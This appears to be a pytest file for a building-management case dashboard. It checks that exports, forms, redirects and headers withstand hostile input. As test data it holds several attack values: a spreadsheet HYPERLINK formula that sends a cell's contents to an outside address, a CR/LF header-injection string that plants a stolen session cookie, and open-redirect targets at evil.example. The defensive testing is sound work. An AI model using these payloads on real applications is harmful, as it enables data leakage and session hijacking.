"""Hostile and careless input to the dashboard (issue 14): friendly 4xx pages, files that always open."""

import csv
import io

import pytest
from openpyxl import load_workbook

from backend.domain import Role, Severity, Status
from backend.domain.commands import Claim, Close, Resolve
from backend.models import Case, CaseEvent
from tests.backend.test_hostile_input import raw_status
from tests.factories import actor_for, make_staff

FORMULA = '=HYPERLINK("http://x/?"&A2,"click")'
BELL = "漏水 \u0001 bell"


def workbook_cells(body: bytes):
    workbook = load_workbook(io.BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


# ---- rows 1 and 2: formulas and control characters in every export ------------------------------


async def test_list_exports_keep_formulas_as_text_and_drop_control_characters(board):
    await board.new_case(text=BELL, subject="保安\u001b", telegram_id=51)
    await board.new_case(text="=1+1 楼道灯不亮", telegram_id=52)
    await board.new_case(text="@SUM(A1) 电梯", unit="+1-1-101", telegram_id=53)
    await board.sign_in(Role.SUPERVISOR)
    response = await board.client.get("/dashboard/cases.xlsx?sort=received")
    assert response.status == 200, await response.text()
    cells = workbook_cells(await response.read())
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "漏水  bell" in texts and "'=1+1 楼道灯不亮" in texts and "'@SUM(A1) 电梯" in texts
    assert "'+1-1-101" in texts
    response = await board.client.get("/dashboard/cases.csv?sort=received")
    assert response.status == 200
    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    descriptions = [row[rows[0].index("Description")] for row in rows[1:]]
    assert descriptions == ["漏水  bell", "'=1+1 楼道灯不亮", "'@SUM(A1) 电梯"]


async def test_monthly_report_download_with_formulas_and_control_characters(board):
    await board.new_case(
        text="=1+1 燃气味很重 \u0001", subject=FORMULA, severity=Severity.MAJOR, category="security"
    )
    await board.new_case(text="保安态度差", subject="保安\u001b", telegram_id=54)
    await board.sign_in(Role.MANAGER)
    response = await board.client.get("/dashboard/reports/2026-11.xlsx")
    assert response.status == 200, await response.text()
    cells = workbook_cells(await response.read())
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + FORMULA in texts and "保安" in texts
    assert any(text.startswith("'=1+1 燃气味很重") for text in texts)


# ---- row 4: text the database cannot store, in forms and query strings --------------------------


async def test_nul_in_a_form_or_query_is_a_400_page_naming_the_field(board):
    case = await board.new_case()
    await board.sign_in(Role.SUPERVISOR)
    before = await CaseEvent.filter(case_id=case.id).count()
    response = await board.post(
        f"/dashboard/cases/{case.number}/note", {"note": "a\x00b", "audience": "tenant"}
    )
    assert response.status == 400
    page = await response.text()
    assert "“note”" in page and "cannot be saved" in page
    assert await CaseEvent.filter(case_id=case.id).count() == before
    for query in ("q=a%00b", "department=x%00", "owner=%00"):
        response = await board.client.get(f"/dashboard/cases?{query}")
        assert response.status == 400, query
        assert "cannot be saved" in await response.text()


# ---- row 6: dates at the calendar limits --------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/dashboard/cases?from=0001-01-01",
        "/dashboard/cases?to=9999-12-31",
        "/dashboard/cases?from=1999-12-31&to=2026-01-01",
        "/dashboard/cases.csv?from=0001-01-01",
        "/dashboard/cases.xlsx?to=9999-12-31",
    ],
)
async def test_case_list_dates_beyond_the_calendar_are_400_with_the_range(board, path):
    await board.sign_in(Role.MANAGER)
    response = await board.client.get(path)
    assert response.status == 400
    page = await response.text()
    assert "Please choose dates from 2000-01-01 to 2999-12-31." in page


@pytest.mark.parametrize("month", ["9999-12", "0001-01", "1999-12", "3000-01"])
async def test_report_months_beyond_the_calendar_are_400_with_the_range(board, month):
    await board.sign_in(Role.MANAGER)
    for path in (f"/dashboard/reports/{month}", f"/dashboard/reports/{month}.xlsx"):
        response = await board.client.get(path)
        assert response.status == 400, path
        assert "Please choose a month from 2000-01 to 2999-12." in await response.text()


async def test_dates_at_the_edges_of_the_calendar_still_work(board):
    await board.sign_in(Role.MANAGER)
    await board.page("/dashboard/cases?from=2000-01-01&to=2999-12-31")
    await board.page("/dashboard/reports/2000-01")
    await board.page("/dashboard/reports/2999-12")
    assert (
        await board.client.get("/dashboard/cases?from=not-a-date")
    ).status == 200  # dropped, as before


# ---- row 7: over-long case numbers --------------------------------------------------------------


async def test_over_long_case_numbers_are_not_found(board):
    await board.sign_in(Role.MANAGER)
    long_number = "QC-20261203-" + "1" * 28
    for path in (
        f"/dashboard/cases/{long_number}",
        f"/dashboard/cases/{long_number}/files/1",
        f"/dashboard/cases/{long_number.lower()}",
    ):
        response = await board.client.get(path)
        assert response.status == 404, path
        assert "There is nothing at this address." in await response.text()
    response = await board.post(f"/dashboard/cases/{long_number}/note", {"note": "x"})
    assert response.status == 404
    assert (
        await board.client.get("/dashboard/cases/QC-20261123-0001/files/9999999999")
    ).status == 404


# ---- row 11: CR/LF in `next` --------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "/dashboard/\r\nSet-Cookie: qingchu_session=stolen",
        "/dashboard/\nX: y",
        "/dashboard/cases\x00",
        "/dashboard/cases?q=漏水",
        "/dashboard/ cases",
        "https://evil.example/dashboard/",
        "//evil.example/dashboard/",
    ],
)
async def test_unsafe_next_redirects_to_the_overview(board, target):
    await board.sign_in(Role.AGENT)
    response = await board.post("/dashboard/language", {"locale": "zh_TW", "next": target})
    if "\x00" in target:
        assert (
            response.status == 400
        )  # refused before the handler: a character that cannot be saved
        return
    assert response.status == 303
    assert response.headers["Location"] == "/dashboard/"
    assert "Set-Cookie" not in response.headers or "stolen" not in response.headers["Set-Cookie"]


async def test_the_page_address_is_kept_as_next(board):
    await board.sign_in(Role.AGENT)
    target = "/dashboard/cases?q=%E6%BC%8F%E6%B0%B4&sort=received"
    response = await board.post("/dashboard/language", {"locale": "en", "next": target})
    assert response.status == 303 and response.headers["Location"] == target


# ---- row 12: 405 keeps Allow --------------------------------------------------------------------


async def test_405_on_the_dashboard_keeps_allow(board):
    await board.sign_in(Role.AGENT)
    response = await board.client.request("TRACE", "/dashboard/cases")
    assert response.status == 405 and "GET" in response.headers["Allow"]
    response = await board.client.get("/dashboard/language")
    assert response.status == 405 and response.headers["Allow"] == "POST"


# ---- row 14: reopening a closed case ------------------------------------------------------------


async def test_only_a_manager_is_offered_and_allowed_to_reopen_a_closed_case(board):
    case = await board.new_case()
    owner = await make_staff(Role.AGENT)
    await board.ctx.cases.handle(Claim(ref=case.number), actor_for(owner))
    await board.ctx.cases.handle(Resolve(ref=case.number, resolution="已修好"), actor_for(owner))
    await board.ctx.cases.handle(
        Close(ref=case.number, reason="confirmed", satisfaction=5),
        actor_for(await make_staff(Role.MANAGER)),
    )
    path = f"/dashboard/cases/{case.number}"
    await board.sign_in(Role.SUPERVISOR)
    assert f'action="{path}/reopen"' not in await board.page(path)
    refused = await board.post(f"{path}/reopen", {"reason": "业主又来电"})
    assert (
        refused.status == 403
        and "Your role does not allow this on this case." in await refused.text()
    )
    await board.sign_in(Role.MANAGER)
    assert f'action="{path}/reopen"' in await board.page(path)
    assert (await board.post(f"{path}/reopen", {"reason": "业主又来电"})).status == 303
    assert (await Case.get(id=case.id)).status is Status.IN_PROGRESS


# ---- headers: a session cookie that is not UTF-8, an Origin that is not a URL --------------------


async def test_a_session_cookie_that_is_not_utf8_is_no_session(board):
    request = b"GET /dashboard/ HTTP/1.1\r\nHost: x\r\nCookie: qingchu_session=\xff\xfe\r\nConnection: close\r\n\r\n"
    assert await raw_status(board.client.server, request) == 401  # the sign-in page, not a 500


@pytest.mark.parametrize("origin", ["http://[", "http://[::1", "https://]x["])
async def test_an_origin_that_is_not_a_url_is_refused_like_a_foreign_one(board, origin):
    await board.sign_in(Role.MANAGER)
    response = await board.client.post(
        "/dashboard/language",
        data={"locale": "zh_CN", "csrf_token": await board.csrf()},
        headers={"Origin": origin},
        allow_redirects=False,
    )
    assert response.status == 403, await response.text()


# ---- digits that str.isdigit() accepts and int() refuses ----------------------------------------


@pytest.mark.parametrize("query", ["page=²", "owner=²", "page=①", "owner=1²"])
async def test_superscript_digits_in_list_parameters_are_ignored_not_500(board, query):
    await board.sign_in(Role.MANAGER)
    for path in ("/dashboard/cases", "/dashboard/cases.csv", "/dashboard/cases.xlsx"):
        response = await board.client.get(f"{path}?{query}")
        assert response.status == 200, (path, await response.text())


async def test_a_superscript_staff_id_in_the_assign_form_is_refused_not_500(board):
    await board.sign_in(Role.MANAGER)
    case = await board.new_case()
    response = await board.post(f"/dashboard/cases/{case.number}/assign", {"staff_id": "²"})
    assert response.status == 400, await response.text()
    assert (await Case.get(number=case.number)).owner_id is None
